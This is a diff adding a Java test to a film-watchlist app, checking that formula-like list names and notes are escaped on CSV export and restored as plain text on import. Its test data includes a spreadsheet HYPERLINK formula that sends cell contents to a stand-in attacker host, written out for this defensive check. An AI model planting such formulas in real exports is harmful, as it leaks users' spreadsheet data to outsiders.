@@ -77,6 +77,29 @@ class LetterboxdImportTest {
     }
 
     @Test
+    void notesAndNamesThatLookLikeFormulasLeaveAsTextAndComeBackUnchanged() {
+        List<FilmRef> films = CuratedFilms.ingest(db, 2).films();
+        Visitor olga = Visitor.signedUp(Visitor.uniqueName("olga"));
+        long list = Lists.create(olga, "=1+1");
+        Lists.add(olga, list, films.get(0).id());
+        Lists.add(olga, list, films.get(1).id());
+        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
+        olga.post("/watchlists/" + list + "/films/" + films.get(0).id() + "/note", "note", formula);
+        olga.post("/watchlists/" + list + "/films/" + films.get(1).id() + "/note", "note", "-5 stars");
+
+        String csv = olga.get("/watchlists/" + list + "/export?format=list").asString();
+        assertThat(csv).contains("'=HYPERLINK(", "'-5 stars", "'=1+1").doesNotContain(",=", ",-5 stars");
+
+        Visitor pavel = Visitor.signedUp(Visitor.uniqueName("pavel"));
+        long imported = importFile(pavel, "formulas.csv", csv);
+        String page = Lists.page(pavel, imported);
+        assertThat(page).contains("<h1 id=\"list-title\">=1+1</h1>")
+                .contains("=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)")
+                .contains("-5 stars")
+                .doesNotContain("&#39;=HYPERLINK", "&#39;-5 stars");
+    }
+
+    @Test
     void theReportNamesUnmatchedRowsAndNothingIsSavedBeforeConfirming() {
         List<FilmRef> films = CuratedFilms.ingest(db, 3).films();
         FilmRef a = films.get(0), b = films.get(1), c = films.get(2);
